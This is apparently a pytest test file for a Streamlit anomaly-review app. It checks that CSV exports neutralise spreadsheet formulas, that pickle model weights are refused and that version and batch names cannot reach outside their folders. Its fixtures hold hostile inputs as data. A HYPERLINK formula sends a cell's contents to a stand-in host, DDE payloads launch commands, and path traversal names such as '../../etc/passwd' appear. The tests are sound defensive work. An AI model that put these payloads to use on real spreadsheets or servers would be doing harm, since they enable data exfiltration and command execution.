"""Exports that cannot attack a spreadsheet, safetensors-only model loading, and names that
cannot reach outside their folders."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from conftest import sign_in
from rsad.data import uploads
from rsad.data.csvsafe import FORMULA_START
from rsad.data.ingest import load_batch
from rsad.model import versions
from rsad.review import export, verdicts

APP = str(Path(__file__).resolve().parents[1] / "app.py")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3 orders at night",
            "@SUM(A1:A9)", "\t=1+1 tab first", "\r=1+1 carriage return first"]


@pytest.fixture
def formula_store(store):
    df = pd.DataFrame({"case_id": ["=id1", "+id2", "-id3", "@id4", "id5", "id6"],
                       "behavior_description": FORMULAS, "is_anomaly": [1, 0, 1, 0, 1, 0],
                       "cmd": ["=cmd|' /C calc'!A0", "ok", "-1", "@x", "fine", "=1"], "rating": [-1, 2, 3, 4, 5, -5]})
    uploads.ingest_file(store, df.to_json(orient="records", lines=True).encode(), file_name="f.jsonl", name="formulas")
    return store


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _is_number(cell: str) -> bool:
    """A spreadsheet reads '-1' as the number -1, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_guarded(data: bytes) -> None:
    rows = _cells(data)
    text_col = rows[0].index("behavior_description")
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), cell
    assert [r[text_col] for r in rows[1:]] == ["'" + t for t in FORMULAS]


def test_csv_export_guards_formulas_and_reads_back_exactly(formula_store, tmp_path):
    export.export_labels(formula_store, tmp_path / "labels.csv")
    data = (tmp_path / "labels.csv").read_bytes()
    _assert_guarded(data)
    rows = _cells(data)
    assert rows[1][rows[0].index("meta_cmd")] == "'=cmd|' /C calc'!A0"
    assert [r[rows[0].index("meta_rating")] for r in rows[1:]][0] == "-1"  # numbers stay numbers
    back = load_batch(tmp_path / "labels.csv", label_required=True)
    assert back.texts == FORMULAS and back.ids[:4] == ["=id1", "+id2", "-id3", "@id4"]
    # Parquet is not opened by spreadsheets: it stays exact.
    export.export_labels(formula_store, tmp_path / "labels.parquet")
    assert pd.read_parquet(tmp_path / "labels.parquet")["behavior_description"].tolist() == FORMULAS


def test_labels_page_csv_download_guards_formulas(formula_store, users, monkeypatch):
    from rsad.auth.users import User

    downloads: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def capture(self, data, mimetype, kind, filename=None):  # noqa: ANN001, ANN202
        downloads[filename] = data
        return original(self, data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", capture)
    at = AppTest.from_file(APP, default_timeout=180).run()
    sign_in(at, "ana")
    at.switch_page("views/labels.py").run()
    assert not at.exception and not at.error
    assert not downloads, "the export is built on click, never stored beforehand"
    # What a click builds for the signed-in analyst (rsad.review.export.labels_bytes, the button's callable).
    ana = User("ana", "analyst")
    _assert_guarded(export.labels_bytes(formula_store, "csv", user=ana))
    parquet = export.labels_bytes(formula_store, "parquet", user=ana)
    assert pd.read_parquet(io.BytesIO(parquet))["behavior_description"].tolist() == FORMULAS


def test_a_version_with_only_pickle_weights_is_refused(tiny_model_dir, tmp_path):
    import shutil

    import torch
    from safetensors.torch import load_file

    from rsad.errors import ModelError
    from rsad.model.classifier import Classifier

    folder = tmp_path / "v9"
    shutil.copytree(tiny_model_dir, folder)
    torch.save(load_file(folder / "model.safetensors"), folder / "pytorch_model.bin")
    (folder / "model.safetensors").unlink()
    with pytest.raises(ModelError, match=r"no safetensors weights .* It has pytorch_model.bin: PyTorch pickle"):
        Classifier.load(folder, device="cpu")
    assert Classifier.load(tiny_model_dir, device="cpu").score(["a kettle"]).shape == (1,)


def test_only_registered_version_folders_are_loaded(store_with_model, tmp_path):
    from rsad.errors import ModelError

    stray = tmp_path / "stray"
    stray.mkdir()
    with store_with_model.session() as s:
        versions.add_model_version(s, name="v2", folder=str(stray), base_model="b", train_config={}, data_hash="h",
                            metrics={}, threshold=0.5)
    with pytest.raises(ModelError, match="is missing or is not an rsad model version"):
        versions.load_classifier(store_with_model, versions.get_version(store_with_model, "v2"))


@pytest.mark.parametrize("name", ["../evil", "..", "/etc/x", "v1/../../x", ".hidden", "", "a" * 101, "v1\n"])
def test_version_names_cannot_leave_the_models_folder(name, tmp_path):
    from rsad.errors import ModelError
    from rsad.model.registry import save_version, version_folder

    models = tmp_path / "models"
    with pytest.raises(ModelError, match="not a valid version name"):
        version_folder(models, name)
    with pytest.raises(ModelError, match="not a valid version name"):
        save_version(None, models, name)  # refused before anything is written
    assert list(tmp_path.iterdir()) == []
    assert version_folder(models, "v12") == models / "v12"


def test_batch_names_and_analysts_are_checked(store, env):
    from rsad.errors import InputError

    data = pd.DataFrame({"behavior_description": ["a kettle", "nine orders"]}).to_csv(index=False).encode()
    for bad in ["two\nlines", "tab\there", "x" * 201]:
        with pytest.raises(InputError, match="one line of at most 200 characters"):
            uploads.ingest_file(store, data, file_name="b.csv", name=bad)
    before = sorted(p.name for p in env.rglob("*"))
    info = uploads.ingest_file(store, data, file_name="../../b.csv", name="../../etc/passwd")
    assert info["name"] == "../../etc/passwd"  # a label in the store, never a path
    assert sorted(p.name for p in env.rglob("*")) == before
    with store.session() as s:
        from sqlalchemy import select

        from rsad.data.orm import Case

        case_id = s.scalar(select(Case.id))
    with pytest.raises(InputError, match="at most 200 characters"):
        verdicts.record_verdicts(store, [case_id], "normal", analyst="a" * 201)
